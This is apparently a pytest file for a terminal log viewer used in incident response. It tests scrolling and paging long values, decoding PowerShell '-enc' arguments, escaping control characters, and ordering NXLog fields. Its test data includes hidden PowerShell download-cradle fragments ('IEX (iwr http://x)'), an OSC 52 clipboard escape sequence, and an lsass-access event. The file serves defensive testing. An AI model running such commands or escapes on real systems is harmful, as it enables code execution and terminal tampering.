"""The detail pane on long values (issue 12): scrolling inside a value taller than the pane, paging
lazily through a 200 KB encoded PowerShell command to its end, the decoded `-enc` line under it,
and an NXLog document's own fields before its collector's metadata. At 80×24, keyboard only."""

from __future__ import annotations

import asyncio
import base64
import json
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import SYSMON, evtx_doc, ingest_into, write_jsonl

from engine.decode import EncodedCommand, powershell_encoded_command
from tui.app import AshiatoApp
from tui.safe_text import ESC_GLYPH
from tui.screens.detail import DetailScreen
from tui.testing import settle, use_utc
from tui.widgets.detail import COLLECTOR_FIELDS, DetailView, Wrap, order_fields

use_utc()

CONTROL = {chr(c) for c in range(0x20)} | {"\x7f"} | {chr(c) for c in range(0x80, 0xA0)}

# A 100,000-character script whose middle and end can only be read by paging: its -enc argument
# is 266,680 characters of base64, and its last line writes an escape sequence.
SCRIPT = ("$a = 'start of the script'\n" + "".join(f"Write-Output 'line {n:05d}'\n" for n in range(3600))
          + "# MIDDLE-MARKER\n" + "".join(f"Write-Output 'more {n:05d}'\n" for n in range(500))
          + "Write-Host \"\x1b]52;c;ZXZpbA==\x07\" # END-OF-SCRIPT")
ENCODED = base64.b64encode(SCRIPT.encode("utf-16-le")).decode()
COMMAND = f"powershell.exe -NoP -NonI -W Hidden -enc {ENCODED}"
TALL = "\n".join(f"row {n:03d} of a tall value" for n in range(60))  # 60 lines, under 4,000 characters

# An NXLog document of the Security-Datasets, keys in the order the collector wrote them.
NXLOG_SYSMON_10 = {
    "Version": 3, "Message": "Process accessed:\r\nRuleName: -\r\nUtcTime: 2020-09-04 07:29:45.114\r\n" + "x" * 3000,
    "SourceThreadId": "448", "TargetImage": "C:\\windows\\system32\\lsass.exe", "Domain": "NT AUTHORITY",
    "TargetProcessGUID": "{3ddc5665-e7d0-5f51-5100-000000000500}", "UserID": "S-1-5-18",
    "Hostname": "WORKSTATION5.theshire.local", "EventType": "INFO",
    "SourceProcessGUID": "{3ddc5665-e7cc-5f51-1000-000000000500}", "Keywords": -9223372036854775808,
    "AccountName": "SYSTEM", "EventID": 10, "Channel": "Microsoft-Windows-Sysmon/Operational",
    "ProviderGuid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}", "ExecutionProcessID": 3080,
    "SourceModuleType": "im_msvistalog", "TargetProcessId": "3268", "AccountType": "User",
    "SourceImage": "C:\\windows\\system32\\svchost.exe", "Opcode": "Info", "SourceName": "Microsoft-Windows-Sysmon",
    "ThreadID": 4344, "RecordNumber": 309430, "SeverityValue": 2, "SourceModuleName": "eventlog", "Severity": "INFO",
    "OpcodeValue": 0, "host": "wec.internal.cloudapp.net", "port": 53971, "@version": "1",
    "Category": "Process accessed (rule: ProcessAccess)", "GrantedAccess": "0x1010",
    "CallTrace": "C:\\windows\\SYSTEM32\\ntdll.dll+9c534", "Task": 10, "UtcTime": "2020-09-04 07:29:45.114",
    "EventTime": "2020-09-04 03:29:45", "EventReceivedTime": "2020-09-04 03:29:47",
    "@timestamp": "2020-09-04T07:29:47.604Z", "tags": ["mordorDataset"], "RuleName": "-", "SourceProcessId": "916",
}


@pytest.fixture(scope="module")
def case_path(tmp_path_factory: pytest.TempPathFactory) -> Path:
    d = tmp_path_factory.mktemp("detail-pane")
    evtx = write_jsonl(d / "events.jsonl", [
        evtx_doc(1, 1, "2020-09-20T10:00:00.000Z", channel=SYSMON, provider="Microsoft-Windows-Sysmon", data={
            "RuleName": "-", "UtcTime": "2020-09-20 10:00:00.000", "ProcessGuid": "{11111111-0000-0000-0000-000000000001}",
            "ProcessId": "4242", "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "CommandLine": COMMAND, "CurrentDirectory": "C:\\Users\\alice\\", "User": "CORP\\alice",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine": TALL, "ParentUser": "CORP\\alice"}),
    ])
    nxlog = write_jsonl(d / "nxlog.json", [NXLOG_SYSMON_10])
    case = d / "case.duckdb"
    ingest_into(case, [evtx, nxlog])
    return case


Scenario = Callable[[AshiatoApp, Any], Awaitable[None]]


def run(case_path: Path, scenario: Scenario, size: tuple[int, int] = (80, 24)) -> None:
    app = AshiatoApp(case_path, user_keymap=False)

    async def main() -> None:
        async with app.run_test(size=size) as pilot:
            await settle(pilot)
            await scenario(app, pilot)

    asyncio.run(main())


async def press(pilot: Any, *keys: str) -> None:
    for key in keys:
        await pilot.press(key)
        await settle(pilot)


async def open_event(pilot: Any, search: str) -> DetailView:
    await press(pilot, "/")
    await pilot.press(*search)
    await press(pilot, "enter", "enter")
    screen = pilot.app.screen
    assert isinstance(screen, DetailScreen)
    return screen.view_pane


def index_of(pane: DetailView, name: str) -> int:
    return next(i for i, e in enumerate(pane.entries) if e.name == name)


def on_screen(pane: DetailView) -> list[str]:
    return [pane.render_line(y).text for y in range(pane.size.height)]


def value_column(pane: DetailView) -> str:
    """The values on screen joined: a value wrapped over several lines reads as one string."""
    return "".join(line[pane._value_x():].rstrip() for line in on_screen(pane))


# -- 1. scrolling inside a value taller than the pane ----------------------------------------------------------
def test_j_scrolls_through_a_value_taller_than_the_pane_before_moving_to_the_next_field(case_path: Path) -> None:
    async def scenario(app: AshiatoApp, pilot: Any) -> None:
        pane = await open_event(pilot, "image:powershell.exe")
        tall = index_of(pane, "ParentCommandLine")
        pane.move_to(tall - 1)
        await press(pilot, "j")
        assert pane.cursor == tall
        assert any("row 000" in line for line in on_screen(pane))
        assert not any("row 030" in line for line in on_screen(pane))  # 60 lines do not fit in 24
        for _ in range(25):
            await press(pilot, "j")
        assert pane.cursor == tall  # still inside the value
        assert any("row 030" in line for line in on_screen(pane))  # its middle is shown
        for _ in range(60):
            if pane.cursor != tall:
                break
            await press(pilot, "j")
        assert any("row 059" in line for line in pane.plain_lines())  # reached its end first
        assert pane.cursor > tall
        await press(pilot, "k")  # back up into the value, at its end
        assert pane.cursor == tall and any("row 059" in line for line in on_screen(pane))
        await press(pilot, "k")
        assert pane.cursor == tall
        await press(pilot, "g")
        assert pane.cursor == 1
        await press(pilot, "G")
        assert pane.cursor == len(pane.entries) - 1

    run(case_path, scenario)


def test_page_down_pages_inside_a_tall_value_and_never_skips_it(case_path: Path) -> None:
    async def scenario(app: AshiatoApp, pilot: Any) -> None:
        pane = await open_event(pilot, "image:powershell.exe")
        tall = index_of(pane, "ParentCommandLine")
        pane.move_to(tall - 2)
        await press(pilot, "pagedown")
        assert pane.cursor == tall  # a page of fields stops at the long value
        await press(pilot, "pagedown")
        assert pane.cursor == tall and any("row 02" in line for line in on_screen(pane))
        await press(pilot, "pageup")
        assert pane.cursor == tall and any("row 000" in line for line in on_screen(pane))

    run(case_path, scenario)


# -- 2. paging lazily to the end of a 200 KB value ---------------------------------------------------------------
def test_the_end_of_a_200_kb_encoded_command_can_be_read_by_paging(case_path: Path) -> None:
    async def scenario(app: AshiatoApp, pilot: Any) -> None:
        pane = await open_event(pilot, "image:powershell.exe")
        cmd = index_of(pane, "CommandLine")
        pane.move_to(cmd)
        await settle(pilot)
        assert sum(len(line) for line in pane.plain_lines()) < 20_000  # only a window is built
        wrap = pane.entries[cmd].wrap
        assert wrap is not None and not wrap.done  # the value is not wrapped to its end up front
        assert any(f"of {len(COMMAND):,} characters" in line for line in pane.plain_lines())
        pages = 0
        while pane.cursor == cmd and pages < 1000:
            pane.page(1)
            pages += 1
            assert len(pane.plain_lines()) < 200
        assert pages > 100  # 266 kB in windows of 21 lines
        pane.move(-1)
        await settle(pilot)
        assert pane.cursor == cmd
        assert ENCODED[-40:] in value_column(pane)  # the very end of the argument
        pane.move_to(cmd)
        await press(pilot, "y")
        assert app.clipboard == COMMAND  # y copies all of it

    run(case_path, scenario)


def test_every_window_of_a_long_value_is_escaped() -> None:
    value = ("a" * 5000 + "\x1b[31m\r\u202e\t") * 40
    wrap = Wrap(value, 50)
    lines = [wrap.line(k) for k in range(wrap.count())]
    assert "".join(lines).count(ESC_GLYPH) == 40
    assert all(not set(line) & CONTROL for line in lines)
    assert all("\u202e" not in line for line in lines) and "\\u202e" in "".join(lines)


# -- 3. the decoded -enc line -----------------------------------------------------------------------------------
def test_a_powershell_enc_argument_is_decoded_from_utf16le_base64() -> None:
    found = powershell_encoded_command("powershell.exe -nop -w hidden -enc "
                                       "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA")
    assert found == EncodedCommand("-enc", found.encoded if found else "", "IEX (New-Object Net.WebClient)", None)
    for switch in ("-e", "-ec", "-EncodedCommand", "-ENCODEDCOMMAND", "/enc", "\u2013enc", "-encod"):
        hit = powershell_encoded_command(f'pwsh {switch} "SQBFAFgA"')
        assert hit is not None and hit.decoded == "IEX", switch


def test_a_bad_enc_argument_says_it_does_not_decode_and_never_raises() -> None:
    assert powershell_encoded_command("powershell -ExecutionPolicy Bypass -File x.ps1") is None
    assert powershell_encoded_command("findstr -e SQBFAFgAIAAoAE4A") is None  # -e only for PowerShell
    assert powershell_encoded_command(None) is None
    short_by_one = powershell_encoded_command("powershell -enc SQBFAFgAI")
    assert short_by_one is not None and short_by_one.decoded is None and "whole number of bytes" in str(
        short_by_one.problem)
    unpadded = powershell_encoded_command("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA")
    assert unpadded is not None and unpadded.decoded == "IEX (New-Object)" and unpadded.problem == "padding repaired"
    ascii_not_utf16 = powershell_encoded_command("powershell -enc " + base64.b64encode(b"IEX (iwr http://x)").decode())
    assert ascii_not_utf16 is not None and ascii_not_utf16.decoded is None
    inner_padding = powershell_encoded_command("powershell -enc SQBF=AFgAIAAo")
    assert inner_padding is not None and inner_padding.decoded is None


def test_the_decoded_command_is_shown_under_the_value_escaped_and_pageable(case_path: Path) -> None:
    async def scenario(app: AshiatoApp, pilot: Any) -> None:
        pane = await open_event(pilot, "image:powershell.exe")
        cmd = index_of(pane, "CommandLine")
        decoded = pane.entries[cmd + 1]
        assert decoded.name == "decoded -enc" and decoded.derived
        pane.move_to(cmd + 1)
        await settle(pilot)
        assert any("start of the script" in line for line in on_screen(pane))
        for _ in range(20_000):
            if pane.cursor != cmd + 1:
                break
            pane.move(1)
        pane.move(-1)  # back to the end of the decoded script
        await settle(pilot)
        lines = on_screen(pane)
        assert any("END-OF-SCRIPT" in line for line in lines)
        assert any(f"{ESC_GLYPH}]52;c;ZXZpbA==\\x07" in line for line in lines)
        assert all(not set(line) & CONTROL for line in lines)
        await press(pilot, "y")
        assert app.clipboard == SCRIPT

    run(case_path, scenario)


# -- 4. NXLog: the event's own fields first, collector metadata last ---------------------------------------------
def test_an_nxlog_document_shows_the_event_fields_in_windows_order_then_the_collector_fields() -> None:
    ordered = [name for name, _ in order_fields(list(NXLOG_SYSMON_10.items()), channel="Microsoft-Windows-Sysmon/Operational",
                                                event_id=10, flat=True)]
    assert ordered[:11] == ["RuleName", "UtcTime", "SourceProcessGUID", "SourceProcessId", "SourceThreadId",
                            "SourceImage", "TargetProcessGUID", "TargetProcessId", "TargetImage", "GrantedAccess",
                            "CallTrace"]
    collector = [name for name in ordered if name in COLLECTOR_FIELDS]
    assert ordered[-len(collector):] == collector and ordered[-1] == "Message"
    assert collector.index("EventTime") < collector.index("SeverityValue") < collector.index("@version")
    # whatever order the collector wrote the keys in, the pane shows the same order
    shuffled = list(reversed(NXLOG_SYSMON_10.items()))
    assert [n for n, _ in order_fields(shuffled, channel="Microsoft-Windows-Sysmon/Operational", event_id=10,
                                       flat=True)] == ordered


def test_an_evtx_document_keeps_its_event_data_order() -> None:
    fields = [("B", 1), ("A", 2), ("Version", 3), ("Message", 4)]
    assert order_fields(fields, channel="Application", event_id=1000, flat=False) == fields


def test_the_pane_of_an_nxlog_event_lists_granted_access_before_severity_and_message_last(case_path: Path) -> None:
    async def scenario(app: AshiatoApp, pilot: Any) -> None:
        pane = await open_event(pilot, "eid:10")
        names = [e.name for e in pane.entries]
        data = names[names.index("event data") + 1:]
        assert data[0] == "RuleName" and data.index("GrantedAccess") < data.index("SeverityValue")
        assert data[-1] == "Message" and data.index("@version") > data.index("CallTrace")
        text = "\n".join(pane.plain_lines())
        assert "GrantedAccess: 0x1010" in text

    run(case_path, scenario)


def test_the_raw_view_pages_the_whole_document(case_path: Path) -> None:
    async def scenario(app: AshiatoApp, pilot: Any) -> None:
        pane = await open_event(pilot, "image:powershell.exe")
        await press(pilot, "r")
        assert pane.raw and sum(len(line) for line in pane.plain_lines()) < 20_000
        long_line = next(i for i, e in enumerate(pane.entries) if '"CommandLine"' in e.value)
        pane.move_to(long_line)
        for _ in range(2000):
            if pane.cursor != long_line:
                break
            pane.page(1)
        assert pane.cursor > long_line
        while pane.cursor > long_line:
            pane.move(-1)  # back up into the long line, at its end
        await settle(pilot)
        assert ENCODED[-40:] in value_column(pane)
        assert json.loads(pane.entries[0].copy)["Event"]["EventData"]["CommandLine"] == COMMAND

    run(case_path, scenario)
